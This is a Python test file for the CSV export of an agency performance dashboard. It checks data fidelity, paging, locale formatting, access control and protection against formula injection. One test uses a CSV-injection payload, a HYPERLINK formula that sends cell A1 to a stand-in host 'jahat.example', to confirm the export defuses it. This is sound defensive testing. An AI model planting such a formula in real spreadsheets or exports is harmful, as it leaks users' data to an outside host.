"""Each table of each page as CSV: its figures are the API's, all of a paged list is in it, and no cell runs as a formula."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from decimal import Decimal
from typing import TYPE_CHECKING, Any, Final
from urllib.parse import parse_qs

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.page_tables import TABLES
from api.tables_csv import RUNS, as_csv, as_text
from tests.pages.city import BUSY, FAST, SMALL, TWIN, settle_in
from tests.pages.reading import Page
from tests.serving import Assembled, event

if TYPE_CHECKING:
    from collections.abc import Iterator

FAR: Final[dict[str, Any]] = {"caller": "203.0.113.9", "host": "neraca.example"}
MONTH: Final = "period=2026-11"
PAGES: Final = {
    "board.html": "/", "dinas.html": f"/dinas/{FAST}", "asn.html": f"/asn/{BUSY}", "why.html": f"/dinas/{FAST}/why",
    "events.html": f"/dinas/{FAST}/events", "files.html": f"/dinas/{FAST}/files", "public.html": "/publik",
    "journal.html": "/auditor/journal", "file.html": f"/dinas/{FAST}/file?service=ktp-el&case=B-0",
}  # fmt: skip


@pytest.fixture(scope="module")
def city(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Assembled]:
    with Assembled(tmp_path_factory.mktemp("csv") / "data") as assembled:
        settle_in(assembled)
        yield assembled


def table(city: Assembled, path: str, name: str, more: str = "") -> list[dict[str, str]]:
    answer = city.get(f"{path}{'&' if '?' in path else '?'}{MONTH}{more}&csv={name}&lang=en")
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith('attachment; filename="neraca-')
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(("template", "name"), [(t, name) for t, names in TABLES.items() for name in names])
def test_every_table_is_offered_on_its_page_and_answers(city: Assembled, template: str, name: str) -> None:
    path = PAGES[template]
    asked = f"{path}{'&' if '?' in path else '?'}{MONTH}"
    assert f"{asked}&csv={name}&lang=en" in Page(city.get(f"{asked}&lang=en").text).links
    assert table(city, path, name)


def test_every_page_with_a_table_offers_as_many(city: Assembled) -> None:
    for template, path in PAGES.items():
        text = city.get(f"{path}{'&' if '?' in path else '?'}{MONTH}").text
        tables = 1 if template == "public.html" else text.count("<table")  # there a table for each unit, and one of all
        assert "<table" in text, template
        assert tables <= len(TABLES[template]), template


def test_the_board_as_csv_is_the_ranking_of_the_api(city: Assembled) -> None:
    cards = city.get(f"/v1/rankings/dinas?{MONTH}").json()["items"]
    rows = table(city, "/", "board")
    assert [row["id"].removeprefix("'") for row in rows] == [card["subject"]["id"] for card in cards]
    for row, card in zip(rows, cards, strict=True):
        value = card["iku"]["value"]
        assert row["Score"] == ("" if value is None else f"{value:.2f}")
        assert row["Best rank"] == ("" if card["rank"] is None else str(card["rank"]["best"]))
        speed = card["indicators"][0]
        assert row["Speed of service"] == ("" if speed["capaian"] is None else f"{speed['capaian']:.2f}")
        assert int(row["n permits with a standard"]) == speed["n"]


def test_a_list_that_the_page_shows_by_fifty_is_whole(city: Assembled) -> None:
    staff = city.get(f"/v1/dinas/{TWIN}/asn?{MONTH}&limit=1000").json()["items"]
    assert len(staff) > 50
    assert [row["ASN"] for row in table(city, f"/dinas/{TWIN}", "staff")] == [card["subject"]["id"] for card in staff]
    assert len(table(city, f"/dinas/{FAST}", "files")) == 2
    moved = city.get(f"/v1/dinas/{FAST}/events?{MONTH}&limit=1000").json()["items"]
    assert len(moved) > 100
    rows = table(city, f"/dinas/{FAST}/events", "events")
    assert [int(row["Position"]) for row in rows] == [item["position"] for item in moved]
    assert len(table(city, f"/dinas/{FAST}/events", "events", "&measure=permits_rejected")) == 3


def test_a_list_too_long_for_one_file_says_where_it_goes_on(city: Assembled, monkeypatch: pytest.MonkeyPatch) -> None:
    """From file to file it is whole, each row once."""
    monkeypatch.setattr("api.page_site.CSV_MOST", 60)
    for path, name, column, whole in (
        (f"/dinas/{FAST}/events", "events", "Position", f"/v1/dinas/{FAST}/events?{MONTH}&limit=1000"),
        (f"/dinas/{TWIN}", "staff", "ASN", f"/v1/dinas/{TWIN}/asn?{MONTH}&limit=1000"),
    ):
        seen, more = [], ""
        while True:
            rows = table(city, path, name, more)
            *rows, last = rows
            if not last[column].startswith("Cut at 60 rows; the rest: "):
                seen += [row[column] for row in (*rows, last)]
                break
            assert len(rows) == 60
            seen += [row[column] for row in rows]
            address = last[column].partition("the rest: ")[2]
            assert address.startswith(f"{path}?")
            more = "&cursor=" + parse_qs(address.partition("?")[2])["cursor"][0]
        items = city.get(whole).json()["items"]
        assert len(seen) == len(items) > 60
        assert seen == [str(item["position"]) if column == "Position" else item["subject"]["id"] for item in items]


def test_times_are_such_as_a_spreadsheet_reads(city: Assembled) -> None:
    """Not in words: they sort, and can be calculated with, in any language."""
    for path, name, column in (
        (f"/dinas/{FAST}/events", "events", "Occurred"),
        (f"/dinas/{FAST}", "files", "Received"),
    ):
        values = [row[column] for row in table(city, path, name)]
        assert all(datetime.fromisoformat(value).tzinfo is None for value in values)


def test_what_is_closed_on_the_page_is_closed_as_csv(city: Assembled) -> None:
    for path in (f"/asn/{BUSY}?csv=months", f"/dinas/{FAST}/files?csv=files", f"/dinas/{FAST}/why?csv=events"):
        assert city.get(path, **FAR).status_code == 401, path
    for name in ("staff", "files"):
        answer = city.get(f"/dinas/{FAST}?csv={name}", **FAR)
        assert answer.status_code == 200
        assert len(answer.text.splitlines()) == 1, "a head, and nobody"


def test_a_table_no_page_has_is_refused(city: Assembled) -> None:
    assert city.get("/?csv=staff").status_code == 422
    assert city.get(f"/dinas/{SMALL}?csv=").status_code == 422


def test_indonesian_spreadsheets_get_semicolons_and_decimal_commas(city: Assembled) -> None:
    text = city.get(f"/?{MONTH}&csv=board").content.decode("utf-8-sig")
    value = city.get(f"/v1/dinas/{FAST}?{MONTH}").json()["iku"]["value"]
    assert f";Dinas Cepat;{value:.2f}".replace(".", ",") in text


def test_a_name_that_is_a_formula_is_text_in_a_spreadsheet(neraca: Assembled) -> None:
    formula = '=HYPERLINK("http://jahat.example/?"&A1,"klik")'
    neraca.record(event("dinas-registered", "1", {"dinas": "-2+3", "name": formula}))
    row = table(neraca, "/", "board")[0]
    assert row["Agency"] == f"'{formula}"
    assert row["id"] == "'-2+3"


@given(st.text())
def test_no_text_begins_a_formula(text: str) -> None:
    """Also where a spreadsheet takes off the blanks before it; and what is no formula stays as it is."""
    for code in ("id", "en"):
        written = as_text(text, "id" if code == "id" else "en")
        assert not written.lstrip().startswith(RUNS)
        assert written in (text, f"'{text}")
    rows = list(csv.reader(io.StringIO(as_csv(["x"], [[text]], "en").decode("utf-8-sig"), newline="")))
    assert rows[1:] == [[as_text(text, "en")]]


def test_figures_stay_figures() -> None:
    assert as_text(Decimal("-0.04"), "id") == "-0,04"
    assert as_text(-5, "en") == "-5"
    assert as_text(Decimal("1E+3"), "en") == "1000"
    assert as_text(None, "id") == ""
